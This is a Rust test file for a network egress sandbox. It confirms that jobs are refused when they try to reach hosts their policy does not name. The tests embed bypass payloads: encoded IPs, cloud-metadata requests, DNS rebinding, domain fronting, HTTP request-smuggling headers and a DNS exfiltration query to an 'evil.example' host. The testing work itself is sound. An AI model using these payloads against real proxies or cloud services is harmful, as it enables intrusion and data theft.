//! Jobs that want to reach what their policy does not name. Each has beside it what does work.

use std::net::TcpListener;

use super::net::{ASK, HOSTS, Net, Ran, told};

/// That the world was asked for nothing that these words are in.
fn unheard(net: &Net, before: &[String], words: &str) {
    let heard = net.since(before);
    assert!(!heard.iter().any(|line| line.contains(words)), "{heard:#?}");
}

pub(super) fn not_named(net: &Net) {
    let before = net.world.log();
    let ran = net.sh("curl -s http://a.example/control
         curl -s -w '%{http_code}\\n' http://b.example/
         curl -s -o /dev/null -w '%{http_connect}\\n' https://b.example/
         curl -s --socks5-hostname 127.0.0.1:3128 http://b.example/; echo $?
         curl -s http://a.example:8080/ -o /dev/null -w '%{http_code}\\n'
         curl -s --noproxy '*' --connect-timeout 5 http://127.64.0.9/ || echo none
         curl -s --noproxy '*' --connect-timeout 5 http://203.0.113.11/; echo $?
         curl -s --noproxy '*' http://b.example/; echo $?");
    ran.printed(
        "http a.example at 203.0.113.10\n\
         stockade: b.example:80: the policy does not name it\n403\n403\n97\n403\nnone\n7\n6\n",
    );
    let expected = [("127.64.0.9:80", 1), ("a.example:8080", 1), ("b.example:443", 1), ("b.example:80", 2)];
    assert_eq!(ran.denials, expected.map(|(target, count)| (target.to_owned(), count)));
    assert_eq!(
        ran.connections(&["how", "destination", "verdict"]),
        [
            "http a.example:80 allowed",
            "http b.example:80 refused",
            "connect b.example:443 refused",
            "socks5 b.example:80 refused",
            "http a.example:8080 refused",
            "transparent 127.64.0.9:80 refused",
        ]
    );
    unheard(net, &before, "b.example");
}

pub(super) fn names(net: &Net) {
    let before = net.world.log();
    let script = r"
good = socks(named(b'A.Example'), 80)[1], connect(b'A.Example:80')[1]
print(good)
bad = [b'a.example\0.b.example', b'a.example\0', b'a.example.', b'a.example ', b' a.example', b'\ta.example', b'a.example\r\n',
       b'user@a.example', b'a.example@b.example', b'a.example#', b'a.example/', b'%61.example', b'a.example\xe3\x80\x82',
       'a\u3002example'.encode(), '\u0430.example'.encode(), b'*.example', b'', b'a..example', b'2130706433', b'0x7f000001',
       b'127.1', b'0177.0.0.1', b'127.0.0.1.', b'localhost']
for name in bad:
    s, code = socks(named(name), 80)
    if code != b'\x02': print('socks', name, code)
for target in bad:
    if any(byte in b'\r\n\0 \t' for byte in target): continue
    s, code = connect(target + b':80')
    if code != b'403': print('connect', target, code)
for target in [b'a.example', b'a.example:', b'a.example:0', b'a.example:080', b'a.example:65616', b'a.example:80:80', b'[a.example]:80']:
    s, code = connect(target)
    if code != b'403': print('connect', target, code)
";
    let ran = net.python(HOSTS, script);
    ran.printed("(b'\\x00', b'200')\n");
    assert!(ran.denials.iter().any(|(target, _)| target == "a.example\\x00.b.example"), "{:?}", ran.denials);
    unheard(net, &before, "b.example");
}

/// Asks for addresses in all their forms, and prints those that were not refused.
const ADDRESSES: &str = r"
for text in ['203.0.113.10', '169.254.169.254', '10.0.0.5', '127.0.0.1', '203.0.113.1', '0.0.0.0']:
    packed = socket.inet_aton(text)
    mapped = b'\0' * 10 + b'\xff\xff' + packed
    nat64 = bytes.fromhex('0064ff9b') + b'\0' * 8 + packed
    for address in (b'\x01' + packed, named(text.encode()), b'\x04' + mapped, b'\x04' + nat64):
        s, code = socks(address, 80)
        if code != b'\x02': print('socks', address, code)
    for target in (text, f'[::ffff:{text}]', f'[{socket.inet_ntop(socket.AF_INET6, nat64)}]'):
        s, code = connect(f'{target}:80'.encode())
        if code != b'403': print('connect', target, code)
        answer = ask(f'GET http://{target}/latest HTTP/1.1\r\n\r\n'.encode())
        if b' 403 ' not in answer: print('http', target, answer[-40:])
for target in ['[fd00:ec2::254]', '[::1]', '[::]']:
    s, code = connect(f'{target}:80'.encode())
    if code != b'403': print('connect', target, code)
";

pub(super) fn addresses(net: &Net) {
    let before = net.world.log();
    let ran = net.python(HOSTS, ADDRESSES);
    ran.printed("");
    assert!(ran.denials.iter().any(|(target, _)| target == "169.254.169.254:80"), "{:?}", ran.denials);
    unheard(net, &before, "http");
    // The same address, when a policy names it; it is there.
    let control = "answer = ask(b'GET http://169.254.169.254/latest HTTP/1.1\\r\\n\\r\\n')\nprint(answer.split(b'\\n')[-2])";
    let named = net.python("addresses: [\"169.254.169.254:80\"]", control);
    named.printed("b'http 169.254.169.254 at 169.254.169.254'\n");
    let range = net.python("addresses: [\"169.254.0.0/16:80\"]", control);
    range.printed("b'http 169.254.169.254 at 169.254.169.254'\n");
}

pub(super) fn inside(net: &Net) {
    let listeners = ["127.0.0.1:5432", "203.0.113.1:5432"].map(|address| {
        let listener = TcpListener::bind(address).unwrap();
        listener.set_nonblocking(true).unwrap();
        listener
    });
    let hosts = ["loopback", "own", "mapped", "private", "metadata"]
        .map(|name| format!("\"{name}.example:5432\", \"{name}.example:80\""))
        .join(", ");
    let script = "
for name in [b'loopback', b'own', b'mapped', b'private', b'metadata']:
    for port in (80, 5432):
        s, code = socks(named(name + b'.example'), port)
        if code != b'\\x02': print(name, port, code)
";
    let ran = net.python(&format!("hosts: [{hosts}]"), script);
    ran.printed("");
    let reasons = ran.reasons().join("\n");
    for word in ["loopback", "this host", "in disguise", "private", "the cloud's metadata service"] {
        assert!(reasons.contains(word), "{word}: {reasons}");
    }
    for listener in &listeners {
        assert!(listener.accept().is_err(), "the supervisor's own services were reached");
    }
    // With the address named beside the name it is reached; so is another address of a name that has both.
    let both = "hosts: [\"loopback.example:5432\", \"mixed.example:80\"], addresses: [\"127.0.0.1:5432\"]";
    let control = "print(socks(named(b'loopback.example'), 5432)[1])
print(ask(b'GET http://mixed.example/ HTTP/1.1\\r\\n\\r\\n').split(b'\\n')[-2])";
    net.python(both, control).printed("b'\\x00'\nb'http mixed.example at 203.0.113.10'\n");
    assert!(listeners[0].accept().is_ok());
}

pub(super) fn rebinding(net: &Net) {
    let listener = TcpListener::bind("127.0.0.1:8080").unwrap();
    listener.set_nonblocking(true).unwrap();
    let before = net.world.log();
    let ran = net.exec(
        "mode: allowlist, hosts: [\"rebind.example:8080\"]",
        &[
            "/bin/sh",
            "-c",
            "curl -s http://rebind.example:8080/; curl -s http://rebind.example:8080/; \
             curl -s --noproxy '*' http://rebind.example:8080/ || echo none",
        ],
    );
    ran.printed(
        "http rebind.example:8080 at 203.0.113.10\n\
         stockade: rebind.example:8080: it leads to 127.0.0.1, which is loopback; the policy would have to name that \
         address\nnone\n",
    );
    assert!(listener.accept().is_err(), "the supervisor's own loopback was reached");
    assert_eq!(ran.denials, [("rebind.example:8080".to_owned(), 2)]);
    let lookups = net.since(&before).iter().filter(|line| *line == "dns rebind.example").count();
    assert!(lookups >= 3, "{lookups}: what was found once is not used again");
}

pub(super) fn fronting_by_tls(net: &Net) {
    let before = net.world.log();
    let script = "
def asked(s, name):
    try:
        s = tls(s, name)
        s.sendall(b'GET /front HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')
        return rest(s).split(b'\\n')[-2]
    except OSError as error:
        return 'refused'
ways = [lambda: connect(b'a.example:443')[0], lambda: socks(named(b'a.example'), 443)[0],
        lambda: socket.create_connection(('a.example', 443), 10), lambda: socket.create_connection(('a.example', 8080), 10)]
for way in ways[:3]:
    print(asked(way(), 'a.example'))
for way in ways:
    for name in ('b.example', None):
        print(asked(way(), name))
";
    let ran = net.python("hosts: [\"a.example:443\", \"a.example:8080\"]", script);
    let good = "b'https x at 203.0.113.10'\n".repeat(3);
    ran.printed(&format!("{good}{}", "refused\n".repeat(8)));
    let reasons = ran.reasons();
    let count = |words: &str| reasons.iter().filter(|reason| reason.contains(words)).count();
    assert_eq!((count("asks for `b.example`"), count("names no server")), (4, 4), "{reasons:#?}");
    assert_eq!(net.since(&before).iter().filter(|line| line.contains("/front")).count(), 3);
}

pub(super) fn fronting_by_http(net: &Net) {
    let before = net.world.log();
    let script = "
direct = lambda: socket.create_connection(('a.example', 80), 10)
def tunnel(): return connect(b'a.example:80')[0]
def by_socks(): return socks(named(b'a.example'), 80)[0]
def odd(): return socket.create_connection(('a.example', 8080), 10)
def shown(answer): return answer.split(b'\\n')[-2] if b' 200 ' in answer else 'refused'
for way in (direct, tunnel, by_socks):
    print(shown(ask(b'GET /good HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n', way)))
for way in (direct, tunnel, by_socks, odd):
    for head in (b'GET /front HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'\\r\\nGET /front HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'get /front http/1.1\\nHost: b.example\\n\\n',
                 b'GET /front\\xff HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'GET /front?\\x01 HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'GET\\x0b/front\\x0bHTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'GET http://b.example/front HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n',
                 b'GET /front HTTP/1.1\\r\\nHost: a.example\\r\\nHost: b.example\\r\\n\\r\\n',
                 b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'):
        answer = shown(ask(head, way))
        if answer != 'refused': print(way.__name__, head, answer)
for head in (b'GET http://a.example/front HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n',
             b'GET http://a.example@b.example/front HTTP/1.1\\r\\n\\r\\n',
             b'GET https://a.example/front HTTP/1.1\\r\\n\\r\\n', b'GET /front HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n'):
    answer = shown(ask(head))
    if answer != 'refused': print(head, answer)
";
    let ran = net.python("hosts: [\"a.example:80\", \"a.example:8080\"]", script);
    ran.printed(&"b'http a.example at 203.0.113.10'\n".repeat(3));
    unheard(net, &before, "/front");
}

pub(super) fn smuggling(net: &Net) {
    let before = net.world.log();
    let hidden = "GET /hidden HTTP/1.1\\r\\nHost: b.example\\r\\n\\r\\n";
    let script = format!(
        "
hidden = b'{hidden}'
def post(fields, body):
    for way in (proxy, lambda: socket.create_connection(('a.example', 80), 10)):
        target = b'http://a.example/open' if way is proxy else b'/open'
        answer = ask(b'POST ' + target + b' HTTP/1.1\\r\\nHost: a.example\\r\\n' + fields + b'\\r\\n' + body, way)
        print(answer.split(b'\\n')[-2].decode() if b' 200 ' in answer else 'refused')
size = str(len(hidden)).encode()
# Each asks for one thing; what follows it goes nowhere, what frames it in two ways is refused.
post(b'Content-Length: 2\\r\\n', b'ab' + hidden)
post(b'Content-Length: ' + size + b'\\r\\n', hidden)
post(b'Transfer-Encoding: chunked\\r\\n', b'2\\r\\nab\\r\\n0\\r\\nX: y\\r\\n\\r\\n' + hidden)
post(b'Connection: close, content-length\\r\\nContent-Length: 2\\r\\n', b'ab' + hidden)
post(b'Content-Length: 2\\r\\nTransfer-Encoding: chunked\\r\\n', b'0\\r\\n\\r\\n' + hidden)
post(b'Content-Length: 0\\r\\nContent-Length: 2\\r\\n', b'ab' + hidden)
post(b'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n', b'0\\r\\n\\r\\n' + hidden)
post(b'Transfer-Encoding: xchunked\\r\\n', b'0\\r\\n\\r\\n' + hidden)
post(b'Transfer-Encoding : chunked\\r\\n', b'0\\r\\n\\r\\n' + hidden)
"
    );
    let ran = net.python(HOSTS, &script);
    let size = "GET /hidden HTTP/1.1\r\nHost: b.example\r\n\r\n".len();
    let taken = ["got 2", &format!("got {size}"), "got 2", "got 2"].map(|line| format!("{line}\n").repeat(2));
    ran.printed(&format!("{}{}", taken.concat(), "refused\n".repeat(10)));
    unheard(net, &before, "/hidden");
    assert_eq!(net.since(&before).iter().filter(|line| line.contains("/open")).count(), 8);
}

pub(super) fn dns(net: &Net) {
    let before = net.world.log();
    let script = "
print(socket.gethostbyname('a.example'))
for name in ('c2VjcmV0.evil.example', 'b.example'):
    try: print(socket.getaddrinfo(name, 80))
    except OSError as error: print('unknown')
    print(socks(named(name.encode()), 80)[1])
query = bytes.fromhex('000101000001000000000000') + b'\\x06secret\\x04evil\\0\\0\\x01\\0\\x01'
for server in ('203.0.113.53', '127.0.0.1', '127.0.0.53'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    try:
        s.sendto(query, (server, 53))
        print(s.recv(512))
    except OSError as error: print(error.__class__.__name__, error.errno)
";
    let ran = net.python(HOSTS, script);
    // ENETUNREACH; nobody is there.
    let nobody = "ConnectionRefusedError 111";
    let lines = ran.stdout.lines().collect::<Vec<_>>();
    assert_eq!(lines[..5], ["127.64.0.1", "unknown", "b'\\x02'", "unknown", "b'\\x02'"], "{ran:#?}");
    assert_eq!(lines[5], "OSError 101");
    assert!(lines[6..].iter().all(|line| [nobody, "TimeoutError None"].contains(line)), "{lines:?}");
    unheard(net, &before, "evil");
    unheard(net, &before, "b.example");
    net.sh("curl -s http://a.example/").printed("http a.example at 203.0.113.10\n");
    assert!(
        net.since(&before).contains(&"dns a.example".to_owned()),
        "the names that are looked up are seen here"
    );
}

pub(super) fn namespace(net: &Net) {
    let script = r"
import ctypes, errno
def tried(what, call):
    try: call(); print(what, 'done')
    except OSError as error: print(what, errno.errorcode.get(error.errno, error.errno))
def tcp(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
tried('listed', lambda: tcp().connect(('127.64.0.1', 80)))
tried('unlisted port', lambda: tcp().connect(('127.0.0.1', 22)))
tried('outside', lambda: tcp().connect(('203.0.113.10', 80)))
tried('outside, another port', lambda: tcp().connect(('203.0.113.10', 2525)))
tried('fast open', lambda: tcp().sendto(b'x', socket.MSG_FASTOPEN, ('203.0.113.10', 80)))
tried('fast open inside', lambda: tcp().sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', 22)))
tried('bind', lambda: tcp().bind(('127.0.0.1', 9000)))
tried('bind the proxy', lambda: tcp().bind(('127.0.0.1', 3128)))
tried('multipath', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
tried('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
tried('six', lambda: socket.socket(socket.AF_INET6).connect(('::1', 80)))
print(sorted(line.split(':')[0].strip() for line in open('/proc/self/net/dev').readlines()[2:]))
";
    let ran = net.python(HOSTS, script);
    // Landlock does not see connections that are made by sending (an erratum of its TCP rules): inside there is nobody
    // to reach that way, and outside no route.
    let expected = [
        ("listed", "done"),
        ("unlisted port", "EACCES"),
        ("outside", "ENETUNREACH"),
        ("outside, another port", "EACCES"),
        ("fast open", "ENETUNREACH"),
        ("fast open inside", "ECONNREFUSED"),
        ("bind", "EACCES"),
        ("bind the proxy", "EACCES"),
        ("multipath", "EPERM"),
        ("raw", "EPERM"),
        ("packet", "EPERM"),
        ("netlink", "EPERM"),
        ("six", "ECONNREFUSED"),
    ];
    let lines: Vec<String> = expected.iter().map(|(what, how)| format!("{what} {how}\n")).collect();
    ran.printed(&format!("{}['lo']\n", lines.concat()));
}

pub(super) fn other_job(net: &Net) {
    // One holds a connection to its own host open; another, beside it, tries the same host through its own proxy.
    let script = format!(
        "{ASK}
import time
s, code = connect(b'a.example:2525')
print(code, read(s, 11))
time.sleep(3)"
    );
    let network = "mode: allowlist, hosts: [\"a.example:2525\"]";
    let mut first = net.command(network, &["/usr/bin/python3", "-c", &script]);
    let first = first.stdout(std::process::Stdio::piped()).spawn().unwrap();
    let other = net.python(
        "hosts: [\"b.example:80\"]",
        "print(connect(b'a.example:2525')[1], connect(b'b.example:80')[1])",
    );
    let first: Ran = told(&first.wait_with_output().unwrap());
    first.printed("b'200' b'220 hello\\r\\n'\n");
    assert_eq!(first.connections(&["destination"]), ["a.example:2525"]);
    other.printed("b'403' b'200'\n");
    assert_eq!(
        other.connections(&["destination", "verdict"]),
        ["a.example:2525 refused", "b.example:80 allowed"]
    );
}
